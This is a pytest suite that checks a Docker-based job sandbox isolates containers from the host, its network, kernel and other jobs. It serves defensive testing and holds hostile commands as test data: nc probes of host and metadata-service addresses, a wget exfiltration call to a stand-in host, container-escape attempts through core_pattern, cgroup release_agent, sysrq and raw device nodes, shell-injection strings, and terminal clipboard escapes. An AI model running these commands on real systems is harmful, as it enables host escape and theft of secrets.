"""Attacks from inside a container on the host, its network, its kernel and other jobs.

Each is checked from outside the job: a listening socket that nobody reached, the kernel's own word about a living
process, a victim that still runs, a host that has kept its name.
"""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from support.dockerd import TestEngine
from support.dockerjobs import Job, execute, run, running, shell
from support.results import stdout
from support.waiting import until_async

from specql_jobs.core.contract import ExecutionContext


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server on every address of this host."""
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.setblocking(False)  # noqa: FBT003 - the standard library's signature
        yield server


def _addresses() -> list[str]:
    """This host's own addresses, and where clouds answer with credentials."""
    listed = subprocess.run(["busybox", "ip", "-4", "addr"], capture_output=True, text=True, check=True).stdout
    own = [line.split()[1].partition("/")[0] for line in listed.splitlines() if line.strip().startswith("inet ")]
    return [*own, "127.0.0.1", "localhost", "172.17.0.1", "169.254.169.254", "host.docker.internal"]


def test_no_address_of_the_host_is_reached(engine: TestEngine, listener: socket.socket) -> None:
    """Without a network nothing answers: not loopback, not the bridge's gateway, not the metadata service."""
    port = listener.getsockname()[1]
    calls = "; ".join(f"echo x | nc -w 1 {address} {port} && echo reached" for address in _addresses())
    assert "reached" not in stdout(run(shell(f"{calls}; true"), engine))
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_only_a_loopback_is_there(engine: TestEngine) -> None:
    """A container without a network has one interface, and it is its own."""
    assert stdout(run(shell("ls /sys/class/net; wc -l < /proc/net/route"), engine)).split() == ["lo", "1"]


def test_names_cannot_be_looked_up(engine: TestEngine) -> None:
    """Data cannot leave as questions for names."""
    result = run(shell("wget -T 2 -q -O - http://secret.example/ && echo reached; true"), engine)
    assert "reached" not in stdout(result)


def test_an_abstract_socket_of_the_host(engine: TestEngine) -> None:
    """Sockets without a path belong to the network namespace, which is the container's own."""
    name = f"sqj-{uuid4().hex}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0" + name)
        server.listen()
        assert name in Path("/proc/net/unix").read_text()
        assert name not in stdout(run(shell("cat /proc/net/unix"), engine))


@pytest.mark.parametrize("narrower", [{"network_isolation": True}, {"network_access": "none"}])
def test_a_network_that_the_policy_took_away(engine: TestEngine, narrower: dict[str, Any]) -> None:
    """Where a row or a ceiling isolates a service that may have a network, its job runs without one."""
    open_policy = {"network_isolation": False, "network_access": "all"}
    job = shell("ls /sys/class/net", config={"network_mode": "bridge"}, policy=open_policy, narrowed=narrower)
    assert stdout(run(job, engine)).split() == ["lo"]


@pytest.mark.parametrize(
    "code",
    [
        "mount -t proc proc /tmp",
        "mount -t tmpfs none /data",
        "mount --bind / /tmp",
        "mount -o remount,rw /",
        "umount /proc/kcore",
        "mknod /tmp/sda b 8 0",
        "mknod /tmp/mem c 1 1",
        "chown 0:0 /tmp",
        "chroot /tmp /bin/true",
        "unshare -r true",
        "unshare -n true",
        "hostname evil",
        "sysctl -w kernel.core_pattern='|/evil'",
        "echo '|/evil' > /proc/sys/kernel/core_pattern",
        "echo b > /proc/sysrq-trigger",
        "echo 1 > /sys/fs/cgroup/memory/release_agent",
        "mkdir /sys/fs/cgroup/memory/evil",
        "cat /proc/kcore",
        "head -c 1 /dev/mem",
        "head -c 1 /dev/sda",
        "touch /bin/evil",
        "touch /etc/evil",
        "! date -s 2001-01-01 2>&1 | grep -q permitted",
        "cat /proc/1/environ > /dev/null; kill -9 -1; ip link add evil type dummy",
        "ping -c 1 127.0.0.1",
        "cp /bin/busybox /tmp/x && /tmp/x true",
    ],
)
def test_what_takes_a_privilege_fails(engine: TestEngine, code: str) -> None:
    """No mount, device, namespace, kernel setting, root file, raw packet or program of one's own."""
    before = (os.uname().nodename, Path("/proc/sys/kernel/core_pattern").read_text())
    assert "done" not in stdout(run(shell(f"({code}) 2>&1 && echo done; true"), engine))
    assert (os.uname().nodename, Path("/proc/sys/kernel/core_pattern").read_text()) == before


def test_a_setuid_program_gives_nothing(engine: TestEngine) -> None:
    """A program of the image that root owns with the setuid bit runs as nobody all the same."""
    assert stdout(run(shell("/bin/busybox-suid id -u; /bin/busybox-suid id -ru"), engine)).split() == ["65534", "65534"]


def test_the_kernel_says_that_nothing_can_be_gained(engine: TestEngine) -> None:
    """Seen from the host: no capability in any set, no new privileges, system calls filtered, nobody's user id."""
    mark = uuid4().hex
    seen: dict[str, str] = {}

    async def look(context: ExecutionContext) -> None:
        pids = await until_async(lambda: asyncio.sleep(0, running(f"read {mark}")), "the job runs")
        for line in Path(f"/proc/{pids[-1]}/status").read_text().splitlines():
            name, _, value = line.partition(":")
            seen[name] = value.strip()

    run(shell(f"sleep 1; : read {mark}"), engine, meanwhile=look)
    assert {seen[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {"0" * 16}
    assert (seen["NoNewPrivs"], seen["Seccomp"]) == ("1", "2")
    assert set(seen["Uid"].split()) == {"65534"}


def test_the_engines_socket_is_nowhere(engine: TestEngine) -> None:
    """No path of the host, and no socket, is in a container."""
    code = "find / -xdev -type s 2>/dev/null; ls /var/run/docker.sock /run 2>/dev/null; true"
    assert stdout(run(shell(code), engine)).strip() == ""


def test_processes_of_the_host_are_not_seen(engine: TestEngine) -> None:
    """A container sees its own processes only, and can signal no other."""
    with subprocess.Popen(["/bin/sleep", "60"]) as victim:
        run(shell(f"kill -9 {victim.pid}; kill -9 -1"), engine)
        assert victim.poll() is None
        victim.kill()
    seen = stdout(run(shell("ls /proc | grep -c '^[0-9]'"), engine))
    assert int(seen) < 10


def test_another_jobs_container_is_out_of_reach(engine: TestEngine) -> None:
    """Two jobs at a time have no process, file or memory in common."""
    mark = uuid4().hex

    async def beside(context: ExecutionContext) -> None:
        await until_async(lambda: asyncio.sleep(0, running(mark)), "the victim runs")
        attack = shell("grep -l . /tmp/* /dev/shm/* 2>/dev/null; kill -9 -1; ls /tmp /dev/shm")
        assert mark not in stdout(await execute(attack, engine, alone=False))

    victim = shell(f"echo {mark} > /tmp/{mark}; echo {mark} > /dev/shm/{mark}; sleep 2; echo survived")
    assert stdout(run(victim, engine, meanwhile=beside)) == "survived\n"


def test_a_child_that_leaves_its_parent_dies(engine: TestEngine) -> None:
    """A daemon in a session of its own, deaf to signals, is gone when the job is over."""
    mark = uuid4().hex
    daemon = f"setsid sh -c 'trap \"\" TERM HUP INT; sleep 300; : {mark}' >/dev/null 2>&1 &"
    code = f"for n in 1 2 3; do {daemon} done; sleep 0.3"
    run(shell(code), engine)
    assert running(mark) == []


def test_the_exit_code_is_the_programs_own(engine: TestEngine) -> None:
    """Words on the streams that look like an engine's answer change no outcome."""
    fake = '{"StatusCode": 0, "State": {"OOMKilled": false, "ExitCode": 0}}'
    result = run(shell(f"echo '{fake}'; printf '\\001\\000\\000\\000\\000\\000\\000\\005hello'; exit 9"), engine)
    assert result.usage["exit_code"] == 9
    assert "hello" in stdout(result)


def test_frames_inside_the_stream_are_text(engine: TestEngine) -> None:
    """Bytes that look like the head of a stderr frame stay in stdout."""
    result = run(
        shell("printf '\\002\\000\\000\\000\\377\\377\\377\\377x'; printf '\\002\\000\\000\\000\\000\\000\\000\\001y'"),
        engine,
    )
    assert [chunk.stream for chunk in result.logs] == ["stdout"]


def test_terminal_controls_are_taken_out(engine: TestEngine) -> None:
    """What would move a terminal's cursor, title or clipboard reaches no log."""
    text = stdout(run(shell("printf 'a\\033]52;c;ZXZpbA==\\007b\\033[2Jc\\rd\\233\\000e'"), engine))
    assert not {"\x1b", "\x07", "\x9b", "\0"} & set(text)


def test_words_of_the_input_are_arguments(engine: TestEngine) -> None:
    """Input in a command's template is one argument, whatever it looks like, and never becomes an option."""
    tricky = "$(touch /tmp/x); `id`; {other} %s \\ ' \""
    result = run(Job(command=("/bin/printf", "%s", "{a}"), input={"a": tricky, "other": "filled twice"}), engine)
    assert stdout(result) == tricky


def test_the_workers_environment_stays_outside(engine: TestEngine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing of the worker's environment, the engine's address and proxies included, is in a container."""
    for name in ("SQJ_SECRET", "HTTP_PROXY", "DOCKER_HOST", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, "leaked-value")
    assert "leaked-value" not in stdout(run(shell("env; cat /proc/1/environ"), engine))


def test_proxies_of_the_users_docker_configuration_stay_outside(
    engine: TestEngine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The client's own configuration file adds no variable to a container."""
    (tmp_path / "config.json").write_text('{"proxies": {"default": {"httpProxy": "http://leaked-value"}}}')
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    assert "leaked-value" not in stdout(run(shell("env"), engine))
